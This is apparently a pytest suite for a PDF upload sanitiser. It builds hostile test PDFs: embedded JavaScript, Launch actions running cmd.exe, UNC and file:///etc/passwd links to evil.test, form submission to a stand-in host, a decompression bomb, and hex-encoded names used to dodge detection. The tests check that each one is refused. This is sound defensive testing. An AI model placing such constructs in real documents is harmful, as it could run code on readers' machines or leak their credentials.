"""What a PDF may and may not contain to be kept (rules.md 6.4), and what is left of it."""

from __future__ import annotations

import random
import re
import zlib
from collections.abc import Callable
from decimal import Decimal
from io import BytesIO
from typing import Any

import pikepdf
import pypdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image
from reportlab.lib.utils import ImageReader  # type: ignore[import-untyped]
from reportlab.pdfgen.canvas import Canvas  # type: ignore[import-untyped]

from shared_code.adapters.upload_check import check, pdf
from shared_code.adapters.upload_check.verdict import SENTENCES, RefusedError

Change = Callable[[Pdf, pikepdf.Page], None]
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def made(change: Change, pages: int = 1, **settings: Any) -> bytes:
    """A PDF of blank pages; `change` is handed the document and its first page."""
    target = BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        document.Root.Outlines = document.make_indirect(Dictionary(Type=Name.Outlines, Count=0))
        change(document, document.pages[0])
        document.save(target, **settings)
    return target.getvalue()


def plain(document: Pdf, page: pikepdf.Page) -> None:
    page.Contents = document.make_stream(b"0 0 m 10 10 l S")


def root(**entries: object) -> Change:
    """A change that sets entries of the document's catalogue."""

    def change(document: Pdf, _: pikepdf.Page) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return change


def annotation(**entries: Any) -> Change:
    """A change that puts one annotation on the page."""

    def change(_: Pdf, page: pikepdf.Page) -> None:
        page.Annots = Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)])

    return change


def action(**entries: Any) -> Change:
    return annotation(Subtype=Name.Link, A=Dictionary(**entries))


def link(target: str) -> Change:
    return action(S=Name.URI, URI=String(target))


def stream(**entries: Any) -> Change:
    """A change that hangs a stream with these entries among the page's XObjects."""

    def change(document: Pdf, page: pikepdf.Page) -> None:
        made_stream = document.make_stream(b"", Type=Name.XObject, **entries)
        page.Resources = Dictionary(XObject=Dictionary(X0=made_stream))

    return change


def font(**entries: Any) -> Change:
    def change(_: Pdf, page: pikepdf.Page) -> None:
        page.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, **entries)))

    return change


def image(width: int, height: int, depth: int) -> Change:
    return stream(Subtype=Name.Image, Width=width, Height=height, BitsPerComponent=depth, ColorSpace=Name.DeviceGray)


def attachment(document: Pdf, _: pikepdf.Page) -> None:
    document.attachments["tool.exe"] = b"MZ"


def content_bomb(document: Pdf, page: pikepdf.Page) -> None:
    packer = zlib.compressobj()
    packed = b"".join([packer.compress(bytes(1 << 20)) for _ in range(201)]) + packer.flush()
    bomb = document.make_stream(b"")
    bomb.write(packed, filter=Name.FlateDecode)
    page.Resources = Dictionary(XObject=Dictionary(X0=bomb))


FILE = Dictionary(Type=Name.Filespec, F=String("other.pdf"))
UNC = String(r"\\evil.test\share\x")

HOSTILE: dict[str, tuple[str, Change]] = {
    "script among names": (
        "PDF_JAVASCRIPT",
        root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))),
    ),
    "script on opening": ("PDF_JAVASCRIPT", root(OpenAction=SCRIPT)),
    "script on closing": ("PDF_JAVASCRIPT", root(AA=Dictionary(WC=SCRIPT))),
    "script on an annotation": ("PDF_JAVASCRIPT", annotation(Subtype=Name.Link, A=SCRIPT)),
    "script of a field": (
        "PDF_JAVASCRIPT",
        root(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(K=SCRIPT))]))),
    ),
    "script as the next action": ("PDF_JAVASCRIPT", action(S=Name.Named, N=Name.NextPage, Next=Array([SCRIPT]))),
    "script after the action, named as text": (
        "PDF_UNKNOWN_ACTION",
        action(S=Name.GoTo, Next=Dictionary(S=String("JavaScript"))),
    ),
    "script under no known key": ("PDF_JAVASCRIPT", root(Whatever=Array([Array([Dictionary(S=Name.JavaScript)])]))),
    "script in a link": ("PDF_EXTERNAL_REFERENCE", link("javascript:alert(1)")),
    "program": ("PDF_LAUNCH", root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    "program on a server": ("PDF_LAUNCH", action(S=Name.Launch, F=Dictionary(F=UNC))),
    "attachment": ("PDF_EMBEDDED_FILE", attachment),
    "attachment on the page": ("PDF_EMBEDDED_FILE", annotation(Subtype=Name.FileAttachment)),
    "portfolio": ("PDF_EMBEDDED_FILE", root(Collection=Dictionary(View=Name.D))),
    "jump into an attachment": ("PDF_EMBEDDED_FILE", action(S=Name.GoToE, T=Dictionary(R=Name.C))),
    "form that sends": ("PDF_FORM_SUBMISSION", action(S=Name.SubmitForm, F=String("https://evil.test"))),
    "form that fetches": ("PDF_FORM_SUBMISSION", action(S=Name.ImportData, F=FILE)),
    "XFA": ("PDF_XFA", root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>")))),
    "rich media": ("PDF_RICH_MEDIA", annotation(Subtype=Name.RichMedia)),
    "3D": ("PDF_RICH_MEDIA", annotation(Subtype=Name("/3D"))),
    "movie": ("PDF_RICH_MEDIA", annotation(Subtype=Name.Movie, Movie=Dictionary(F=String("m.avi")))),
    "sound": ("PDF_RICH_MEDIA", annotation(Subtype=Name.Sound)),
    "sound on clicking": ("PDF_RICH_MEDIA", action(S=Name.Sound)),
    "screen": ("PDF_RICH_MEDIA", annotation(Subtype=Name.Screen)),
    "rendition": ("PDF_RICH_MEDIA", action(S=Name.Rendition, OP=0)),
    "jump to another file": ("PDF_EXTERNAL_REFERENCE", action(S=Name.GoToR, F=FILE, D=Array([0, Name.Fit]))),
    "jump to a server": ("PDF_EXTERNAL_REFERENCE", action(S=Name.GoToR, F=UNC)),
    "thread of another file": ("PDF_EXTERNAL_REFERENCE", action(S=Name.Thread, F=UNC, D=0)),
    "link to a file": ("PDF_EXTERNAL_REFERENCE", link("file:///etc/passwd")),
    "link to a share": ("PDF_EXTERNAL_REFERENCE", link(r"\\evil.test\share")),
    "link to a share dressed as web": ("PDF_EXTERNAL_REFERENCE", link(r"http:\\evil.test\share")),
    "base of links": ("PDF_EXTERNAL_REFERENCE", root(URI=Dictionary(Base=String("file://evil.test/")))),
    "stream elsewhere": ("PDF_EXTERNAL_REFERENCE", stream(F=FILE, Subtype=Name.Form)),
    "stream on a server": ("PDF_EXTERNAL_REFERENCE", stream(F=UNC)),
    "page of another file": ("PDF_EXTERNAL_REFERENCE", stream(Subtype=Name.Form, Ref=Dictionary(F=FILE, Page=0))),
    "action nobody knows": ("PDF_UNKNOWN_ACTION", root(OpenAction=Dictionary(S=Name.Explode))),
    "menu command": ("PDF_UNKNOWN_ACTION", action(S=Name.Named, N=Name.SaveAs)),
    "code in a font matrix": ("PDF_DAMAGED", font(FontMatrix=Array([1, 0, 0, 1, 0, String("0); alert(1)")]))),
    "font widths of another kind": ("PDF_DAMAGED", font(Widths=String("1 2 3"))),
    "picture of 900 megapixels": ("FILE_TOO_COMPLEX", image(30_000, 30_000, 8)),
}


@pytest.mark.parametrize(("reason", "change"), HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("hidden", [False, True], ids=["plain", "in object streams"])
def test_a_pdf_that_can_do_more_than_be_read_is_refused(reason: str, change: Change, hidden: bool) -> None:
    mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
    with pytest.raises(RefusedError) as refused:
        pdf.clean(made(change, object_stream_mode=mode))
    assert refused.value.reason == reason


def test_a_script_is_found_though_its_name_stands_nowhere_in_the_file() -> None:
    content = made(root(OpenAction=SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in content
    assert check(content, "application/pdf").reason == "PDF_JAVASCRIPT"


def test_a_stream_that_unpacks_to_201_megabytes_is_refused() -> None:
    assert check(made(content_bomb), "application/pdf").reason == "FILE_TOO_COMPLEX"


def test_a_name_written_in_hexadecimal_is_the_same_name() -> None:
    content = made(root(OpenAction=SCRIPT)).replace(b"/S /JavaScript", b"/S /J#61vaScript")
    assert b"#61" in content
    assert check(content, "application/pdf").reason == "PDF_JAVASCRIPT"


def test_encryption_is_refused_also_where_everybody_may_read() -> None:
    for user in ("", "secret"):
        content = made(plain, encryption=pikepdf.Encryption(owner="owner", user=user))
        assert check(content, "application/pdf").reason == "PDF_ENCRYPTED"


def test_200_pages_are_taken_and_201_are_not() -> None:
    assert check(made(plain, pages=200), "application/pdf").accepted
    assert check(made(plain, pages=201), "application/pdf").reason == "PDF_TOO_MANY_PAGES"


@pytest.mark.parametrize("content", [b"%PDF-1.7\n%%EOF", b"%PDF-", b"%PDF-1.7\n" + bytes(1000)])
def test_what_only_starts_like_a_pdf_is_refused(content: bytes) -> None:
    assert check(content, "application/pdf").reason == "PDF_DAMAGED"


def test_a_pdf_without_pages_is_refused() -> None:
    target = BytesIO()
    with pikepdf.new() as document:
        document.save(target)
    assert check(target.getvalue(), "application/pdf").reason == "PDF_DAMAGED"


HARMLESS: dict[str, Change] = {
    "web link": link("https://solarium.example/offer?id=1&a=b#top"),
    "web link without scheme": link("www.solarium.example"),
    "web link in capitals": link("HTTP://SOLARIUM.EXAMPLE/"),
    "mail": link("mailto:sales@solarium.example?subject=Roof"),
    "phone": link("tel:+91 90000 00001"),
    "page jump on opening": lambda document, page: root(OpenAction=Array([page.obj, Name.Fit]))(document, page),
    "page jump as an action": lambda document, page: action(S=Name.GoTo, D=Array([page.obj, Name.Fit]))(document, page),
    "printing": root(OpenAction=Dictionary(S=Name.Named, N=Name.Print)),
    "fields to fill in": root(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("name"), F=4)]))),
    "a font called F": lambda _, page: page.obj.update({"/Resources": Dictionary(Font=Dictionary(F=Dictionary()))}),
    "a name that is no UTF-8": root(Kind=Dictionary(S=Name("/caf#e9"))),
    "a drawing scanned in black and white": image(19_000, 13_000, 1),
    "numbers of every kind": font(FontBBox=Array([0, -1, Decimal("0.5"), 1]), Widths=Array([])),
}


@pytest.mark.parametrize("change", HARMLESS.values(), ids=HARMLESS)
def test_what_ordinary_documents_contain_is_taken(change: Change) -> None:
    assert pypdf.PdfReader(BytesIO(pdf.clean(made(change)))).get_num_pages() == 1


def bill() -> bytes:
    """An electricity bill as offices make it: text, photo, links, bookmarks, a form."""
    target = BytesIO()
    canvas = Canvas(target, pagesize=(595, 842))
    photo = BytesIO()
    Image.effect_noise((200, 100), 50).save(photo, "JPEG")
    for page in (1, 2):
        canvas.bookmarkPage(f"page{page}")
        canvas.addOutlineEntry(f"Page {page}", f"page{page}")
        canvas.drawString(72, 700, f"Consumer 123456, page {page}")
        canvas.drawImage(ImageReader(photo), 72, 500)
        canvas.linkURL("https://www.example.com/pay", (72, 400, 200, 420))
        canvas.linkRect("next", "page2", (72, 300, 200, 320))
        canvas.acroForm.textfield(name=f"field{page}", x=72, y=200)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def test_an_ordinary_document_is_taken_and_reads_the_same() -> None:
    verdict = check(bill(), "application/pdf")
    assert verdict.accepted
    assert verdict.content
    reader = pypdf.PdfReader(BytesIO(verdict.content))
    assert ["page 1" in reader.pages[0].extract_text(), "page 2" in reader.pages[1].extract_text()] == [True, True]
    assert len(reader.pages[0].images) == 1
    with pikepdf.open(BytesIO(verdict.content)) as document:
        assert [item.title for item in document.open_outline().root] == ["Page 1", "Page 2"]
        assert document.pages[0].Annots[0].A.URI == "https://www.example.com/pay"
        assert document.Root.AcroForm.Fields[0].T == "field1"


def test_the_same_file_gives_the_same_bytes_in_any_process() -> None:
    content = bill()
    first, second = check(content, "application/pdf"), check(content, "application/pdf")
    assert first.accepted
    assert first == second


def test_what_no_reader_shows_is_gone() -> None:
    def with_xmp(document: Pdf, page: pikepdf.Page) -> None:
        plain(document, page)
        document.Root.Metadata = document.make_stream(b"<!ENTITY secret-xmp>", Type=Name.Metadata, Subtype=Name.XML)
        page.Resources = Dictionary(Properties=Dictionary(P=Dictionary(Metadata=document.Root.Metadata)))

    foreign = b"99 0 obj<</S/JavaScript/JS(unreachable)>>endobj\n"
    content = made(with_xmp).replace(b"xref\n", foreign + b"xref\n", 1) + b"PK\x03\x04 an archive behind it"
    verdict = check(content, "application/pdf")
    assert verdict.content
    assert verdict.content.startswith(b"%PDF-")
    assert verdict.content.rstrip().endswith(b"%%EOF")
    assert not re.search(rb"JavaScript|unreachable|archive|secret-xmp", verdict.content)


def test_a_sloppy_file_is_repaired() -> None:
    content = made(plain)
    verdict = check(content[: content.index(b"xref\n")], "application/pdf")
    assert verdict.content
    assert pypdf.PdfReader(BytesIO(verdict.content), strict=True).get_num_pages() == 1


def test_every_byte_flipped_or_cut_gives_a_verdict_or_a_clean_file() -> None:
    content, chance = bill(), random.Random(6)
    for _ in range(40):
        broken = bytearray(content[: chance.randrange(10, len(content))])
        broken[chance.randrange(5, len(broken))] ^= 1 << chance.randrange(8)
        try:
            result = pdf.clean(bytes(broken))
        except RefusedError as refused:
            assert refused.reason in SENTENCES
        else:
            assert pypdf.PdfReader(BytesIO(result)).get_num_pages() > 0
